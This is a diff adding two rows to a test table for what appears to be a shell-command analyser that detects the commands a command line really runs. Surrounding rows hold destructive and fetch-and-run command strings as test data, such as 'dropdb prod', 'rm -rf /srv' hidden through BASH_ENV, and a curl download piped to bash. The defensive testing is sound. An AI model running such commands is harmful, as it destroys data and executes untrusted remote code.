@@ -270,6 +270,8 @@ const rows: Row[] = [
   { cmd: 'cp evil.sh safe.sh; bash safe.sh', files: { 'evil.sh': 'dropdb prod\n', 'safe.sh': 'echo ok\n' }, has: [{ argv: ['dropdb', 'prod'] }], not: [['echo', 'ok']] },
   { cmd: 'curl -fsSL https://x.io/i.sh -o i.sh && bash i.sh', has: [{ argv: ['bash', 'i.sh'] }], issues: ['opaque-interpreter'] },
   { cmd: 'cat > /tmp/env.sh <<EOF\nrm -rf /srv\nEOF\nBASH_ENV=/tmp/env.sh bash safe.sh', has: [{ argv: ['rm', '-rf', '/srv'], via: ['bash BASH_ENV'] }] },
+  { cmd: 'BASH_ENV= bash safe.sh', has: [{ argv: ['bash', 'safe.sh'] }] },
+  { cmd: 'parallel node --title {} app.js', has: [{ argv: ['node', '--title', '$XARGS_ITEM', 'app.js'] }] },
   { cmd: 'BASH_ENV="$STARTUP" bash safe.sh', has: [{ argv: ['bash', 'safe.sh'] }], issues: ['dynamic-command'] },
   { cmd: '. -p /tmp "$FILE"', has: [{ argv: ['.', '-p', '/tmp', '$FILE'] }], issues: ['dynamic-command'] },
 
